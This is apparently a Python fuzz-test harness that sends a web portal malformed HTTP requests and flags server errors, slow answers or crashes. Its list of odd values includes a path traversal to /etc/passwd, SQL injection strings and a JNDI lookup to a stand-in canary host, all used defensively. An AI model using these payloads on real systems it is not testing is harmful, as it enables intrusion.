"""Requests that nobody means: every address of the portal with odd methods, odd fields, odd bodies. None may break it.

Wrong is an answer of 500 or more, one that took longer than SLOW seconds, and a server that is gone.
"""

import http.client
import random
import re
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import dataclass, field
from urllib.parse import quote, urlencode

from tests.security.payloads import TEXTS

SLOW = 5.0
METHODS = (
    ("GET",) * 6 + ("POST",) * 6 + ("HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "PROPFIND", "get", "X" * 300)
)
#: Values that are not what a field asks for.
ODD = (
    "", " ", "0", "-1", "1e309", "NaN", "9" * 400, "true", "null", "[]", "{}", "\x00", "a\x00b", "\ud7ff", "\u202e",
    "é" * 500, "../../../etc/passwd", "%00", "%ff", "%", "2026-13-45", "0000-00-00",
    "2026-09-06T25:61", "9999999999999999999", "P-7Q4K2", "on", "x" * 70_000,
    "'\"`;--", "' OR 1=1 --", "1;SELECT pg_sleep(9)", "${jndi:ldap://canary.example/a}",
)  # fmt: skip
FIELDS = (
    "given_name", "family_name", "display_name", "email", "country", "organisation", "profession", "privacy", "action",
    "code", "q", "page", "o", "p", "kind", "working_group", "open", "language", "next", "call", "call__id__exact",
    "state__exact", "_to_field", "_popup", "username", "login", "password", "_selected_action",
    "index", "select_across", "decision", "title", "slug", "published_at", "_save", "reason", "outcome", "version",
    "stamp", "format",
)  # fmt: skip
_TYPES = (
    "application/x-www-form-urlencoded", "multipart/form-data; boundary=b", "multipart/form-data", "application/json",
    "text/xml", "", "application/x-www-form-urlencoded; charset=utf-7", "multipart/form-data; boundary=" + "b" * 300,
)  # fmt: skip


@dataclass
class Result:
    """What came back."""

    answers: Counter[int] = field(default_factory=Counter)
    slowest: float = 0.0
    wrong: list[str] = field(default_factory=list)

    @property
    def asked(self) -> int:
        """How many requests were sent."""
        return sum(self.answers.values())


@dataclass(frozen=True)
class Ask:
    """One request."""

    method: str
    target: str
    body: bytes
    headers: dict[str, str]


def _is_promised(ask: Ask, status: int) -> bool:
    """The web server's own word for a method that nobody knows, and the health page's for what does not run here."""
    return status == 501 or (status == 503 and ask.target.startswith("/healthz/"))


class Fuzzer:
    """Asks the server to which `connect` leads; `addresses` are paths with <names> to be filled, `known` by what."""

    def __init__(
        self,
        connect: Callable[[], http.client.HTTPConnection],
        addresses: list[str],
        known: dict[str, list[str]],
        *,
        seed: int,
    ) -> None:
        self._line = connect
        self._addresses, self._known, self._chance = addresses, known, random.Random(seed)
        self.result = Result()

    def ask(self, number: int, cookies: str = "", token: str = "") -> None:
        """Send so many requests, as the owner of these cookies."""
        line = self._line()
        host = f"{line.host}:{line.port}"
        for _ in range(number):
            ask = self._make(host, cookies, token)
            started = time.monotonic()
            try:
                line.putrequest(ask.method, ask.target, skip_host=True, skip_accept_encoding=True)
                for name, value in {"Host": host, "Content-Length": str(len(ask.body)), **ask.headers}.items():
                    line.putheader(name, value)
                line.endheaders(ask.body)
                answer = line.getresponse()
                answer.read()
                self._note(ask, answer.status, time.monotonic() - started)
                if answer.will_close:
                    line.close()
            except (OSError, http.client.HTTPException, ValueError) as error:
                line.close()
                self._broke(ask, error)
        line.close()

    def _note(self, ask: Ask, status: int, took: float) -> None:
        self.result.answers[status] += 1
        self.result.slowest = max(self.result.slowest, took)
        if (status >= 500 and not _is_promised(ask, status)) or took > SLOW:
            self.result.wrong.append(
                f"{status} in {took:.1f} s: {ask.method[:20]} {ask.target[:200]} {ask.body[:200]!r}"
            )

    def _broke(self, ask: Ask, error: Exception) -> None:
        """A server may hang up on what is no HTTP; it must still be there afterwards."""
        self.result.answers[0] += 1
        try:
            with closing(self._line()) as line:
                line.request("GET", "/healthz/live/")
                line.getresponse().read()
        except OSError:
            self.result.wrong.append(f"no answer ({error}): {ask.method[:20]} {ask.target[:200]}")

    def _make(self, host: str, cookies: str, token: str) -> Ask:
        chance = self._chance
        method = chance.choice(METHODS)
        target = self._target()
        headers = {"Accept": "*/*"}
        if cookies:
            headers["Cookie"] = (
                cookies if chance.random() < 0.9 else cookies[: chance.randrange(len(cookies))] + "é;=;\t"
            )
        body = b""
        if method in ("POST", "PUT", "PATCH"):
            kind = chance.choice(_TYPES)
            headers |= {"Content-Type": kind, "Referer": f"http://{host}/"}
            body = self._body(kind, token)
        if chance.random() < 0.05:
            word = re.sub(r"[^ -~]", "?", self._word()[:200])
            headers |= {"X-Forwarded-For": word, "If-Modified-Since": "yesterday", "Range": "bytes=9-1"}
        return Ask(method, target, body, headers)

    def _target(self) -> str:
        chance = self._chance
        path = re.sub(r"<(?:\w+:)?(\w+)>", lambda found: self._filled(found[1]), chance.choice(self._addresses))
        if chance.random() < 0.08:
            path += chance.choice(["%00", "%ff%fe", "//", "/..", "%2e%2e/", "?", "%0d%0aX: y", "a" * 3000])
        if chance.random() < 0.6:
            asked = [(chance.choice(FIELDS), self._word()[:3000]) for _ in range(chance.randrange(1, 5))]
            path += "?" + urlencode(asked, errors="surrogatepass")
        return path

    def _filled(self, name: str) -> str:
        known = self._known.get(name, [])
        return quote(
            self._chance.choice(known) if known and self._chance.random() < 0.7 else self._word()[:300], safe=""
        )

    def _word(self) -> str:
        return self._chance.choice(ODD if self._chance.random() < 0.5 else TEXTS)

    def _body(self, kind: str, token: str) -> bytes:
        chance = self._chance
        if chance.random() < 0.1:
            return chance.randbytes(chance.randrange(2000))
        fields = [(chance.choice(FIELDS), self._word()) for _ in range(chance.randrange(1, 8))]
        if chance.random() < 0.02:
            fields = [(f"f{number}", "x") for number in range(10_000)]
        fields += [("csrfmiddlewaretoken", token)] if token else []
        if kind.startswith("multipart"):
            return b"".join(self._parts(fields)) + b"--b--\r\n"
        if "json" in kind:
            return repr(dict(fields)).encode("utf-8", "surrogatepass")
        return urlencode(fields, errors="surrogatepass").encode()

    def _parts(self, fields: list[tuple[str, str]]) -> Iterator[bytes]:
        for name, value in fields:
            file = '; filename="a.pdf"' if self._chance.random() < 0.2 else ""
            head = f'--b\r\nContent-Disposition: form-data; name="{name}"{file}\r\n\r\n'
            yield head.encode() + value.encode("utf-8", "surrogatepass") + b"\r\n"
